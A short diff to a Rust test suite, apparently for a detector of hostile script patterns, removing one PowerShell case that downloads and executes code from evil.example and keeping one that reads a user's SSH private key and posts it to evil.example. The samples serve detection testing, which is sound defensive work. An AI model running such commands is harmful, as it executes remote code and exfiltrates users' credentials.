@@ -95,11 +95,6 @@ fn ruby_within_a_function() {
 fn powershell_within_a_function() {
     check(
         Language::PowerShell,
-        "$code = Invoke-RestMethod -Uri 'https://evil.example/c'\nInvoke-Expression $code\n",
-        "remote_content evil.example -> eval",
-    );
-    check(
-        Language::PowerShell,
         "function Send-It {\n  $k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\n  Invoke-WebRequest -Uri https://evil.example/x -Method Post -Body $k\n}\nSend-It\n",
         "credential_file",
     );
